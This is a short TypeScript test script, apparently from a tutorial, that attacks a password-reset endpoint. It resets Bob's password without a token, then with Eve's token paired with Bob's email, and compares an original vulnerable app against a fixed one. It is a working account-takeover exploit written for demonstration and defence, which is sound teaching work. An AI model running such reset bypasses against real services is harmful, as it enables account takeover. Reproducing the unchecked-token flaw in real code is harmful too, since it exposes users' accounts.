/** Attack on step 19: leaving the token out, and sending one's own token with somebody else's email. */
import { against, ask, withService } from '../kit.ts'
import { startOriginal } from '../original/app.ts'

/** Resets without a token, then with a token of another account. */
async function attack(address: string): Promise<void> {
  for (const email of ['bob@bob.com', 'eve@evil.example']) {
    await ask(address, 'POST /users', { fields: { email, password: 'mySuperPwd' } })
  }
  const bare = { email: 'bob@bob.com', new_password: 'PwdOfEve' }
  const without = await ask(address, 'PUT /reset_password', { fields: bare })
  console.log('without a token:', without.status, without.body)
  const entered = await ask(address, 'POST /sessions', { fields: { email: 'bob@bob.com', password: 'PwdOfEve' } })
  console.log('Eve logs in as Bob:', entered.status)

  const asked = await ask(address, 'POST /reset_password', { fields: { email: 'eve@evil.example' } })
  const { reset_token } = JSON.parse(asked.body) as { reset_token: string }
  const mixed = await ask(address, 'PUT /reset_password', { fields: { ...bare, reset_token } })
  console.log("Eve's token with Bob's email:", mixed.status, mixed.body)
}

against('the original')
const original = await startOriginal()
await attack(original.address)
original.close()

against('ours')
await withService(attack)
